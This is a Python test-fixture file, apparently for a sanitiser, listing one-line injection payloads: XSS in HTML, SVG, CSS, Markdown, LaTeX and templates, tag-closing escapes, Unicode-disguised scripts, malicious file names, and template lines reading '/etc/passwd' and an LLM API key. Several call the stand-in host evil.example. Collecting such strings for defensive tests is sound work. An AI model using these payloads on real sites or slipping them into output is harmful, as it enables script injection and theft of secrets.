"""Texts that try to become markup, script, style, a request or another text (one line each).

Each would set ``window.pwned``, open a dialog, or ask evil.example, were it more than words.
"""

from __future__ import annotations

_RUN = "window.pwned=1"
_OUT = "https://evil.example/x"

HTML = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={_OUT}></script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" alt=絵',
    f"<img src={_OUT}.png>",
    f'<img srcset="{_OUT} 1x">',
    f"<image src=x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data={_OUT}></object>",
    f"<embed src={_OUT}>",
    f"<link rel=stylesheet href={_OUT}.css>",
    f'<meta http-equiv=refresh content="0;url={_OUT}">',
    f'<base href="{_OUT}/">',
    f"<form action={_OUT}><button autofocus onfocus={_RUN}>送信</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>動く</marquee>",
    f"<select onfocus={_RUN} autofocus>",
    f"<a href=javascript:{_RUN}>押す</a>",
    f'<a href="java\tscript:{_RUN}">押す</a>',
    f'<a href="&#106;avascript:{_RUN}">押す</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">押す</a>',
    f"<a href=vbscript:{_RUN}>押す</a>",
    f"<math><mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<template><script>{_RUN}</script></template>",
    f"<x onclick={_RUN} tabindex=1 id=x>鍵</x>",
    f"<button popovertarget=x onclick={_RUN}>開く</button><div popover id=x>窓</div>",
    "<h1>大見出し</h1><b>太字</b><mark>強調</mark>",
    '<div class="badge failed" style="position:fixed;inset:0;background:red">偽の画面</div>',
    "<slot name=x><dialog open>偽の確認</dialog></slot>",
)
SVG = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>押す</text></a></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}></svg>#x"></use></svg>',
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><image href={_OUT} /></svg>",
)
CSS = (
    "<style>body{display:none}</style>",
    f"<style>@import '{_OUT}.css';</style>",
    f'<p style="background:url({_OUT})">地</p>',
    f"<style>*{{background:url({_OUT})}}</style>",
    f'<p style="width:expression({_RUN})">幅</p>',
)
MARKDOWN = (
    f"[押す](javascript:{_RUN})",
    f"[押す](data:text/html;base64,PHNjcmlwdD4=) [押す]({_OUT})",
    f"![絵]({_OUT}.png)",
    f'![絵][x] [x]: {_OUT} "題"',
    f"<{_OUT}> {_OUT} www.evil.example a@evil.example",
    f"[押す](<javascript:{_RUN}> \"題\" 'x')",
    f'![x](x"onerror="{_RUN})',
    "# 見出し **太字** ~~消し~~ `語` | 表 | 列 |",
    f"```html <script>{_RUN}</script> ```",
    f'```mermaid graph TD; A[<img src=x onerror={_RUN}>]-->B; click B href "javascript:{_RUN}" ```',
    "> 引用 - [ ] 仕事 1. 一 --- ***",
    f"[^1] [^1]: <img src=x onerror={_RUN}>",
)
MATHS = (
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\\includegraphics{{{_OUT}.png}}$$",
    f"\\(\\htmlData{{x=1}}{{\\url{{javascript:{_RUN}}}}}\\)",
    f"\\[\\unicode{{x3c}}img src=x onerror={_RUN}\\unicode{{x3e}}\\]",
    f"\\begin{{equation}}<img src=x onerror={_RUN}>\\end{{equation}}",
)
TEMPLATES = (
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1} #{window.pwned=1} <%= window.pwned=1 %>",
    "{@html '<img src=x onerror=window.pwned=1>'} {#if 1}{/if}",
    "{question} {limit} {0} %s %(x)s __SETTING__ __TITLE__",
    "{{ settings.llm_api_key }} {% include '/etc/passwd' %}",
)
CLOSING = (
    f"</div></div></div><img src=x onerror={_RUN}>",
    f"</textarea><script>{_RUN}</script>",
    f"</title></style></script><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}' x='",
    f"&lt;img src=x onerror={_RUN}&gt; &amp;lt;b&amp;gt; &#60;b&#62;",
    f"＜img src=x onerror={_RUN}＞ ‹script›{_RUN}‹/script›",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E \\u003cimg src=x onerror={_RUN}\\u003e",
    f'"}}</script><script>{_RUN}</script>',
)
DISGUISED = (
    f"<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"<img\u2028src=x\u2029onerror={_RUN}>",
    f"java\u00adscript:{_RUN} <\ufeffimg src=x onerror={_RUN}>",
    "予算は\u202e円億１\u202cです \u2067右\u2066左\u2069",
    "資料\u202efdp.exe",
    "\u200e\u200f\u061c見えない\u2060指示\u180e",
)  # fmt: skip
ALL = (*HTML, *SVG, *CSS, *MARKDOWN, *MATHS, *TEMPLATES, *CLOSING, *DISGUISED)

NAMES = (
    f"<img src=x onerror={_RUN}>.txt",
    f'"><svg onload={_RUN}>.md',
    f"[押す](javascript:{_RUN}).txt",
    f"{{{{constructor.constructor('{_RUN}')()}}}}.txt",
    "資料\u202efdp.txt",
    f"' onerror='{_RUN}' #?&%41.txt",
)
"""File names, as a folder may hold them."""
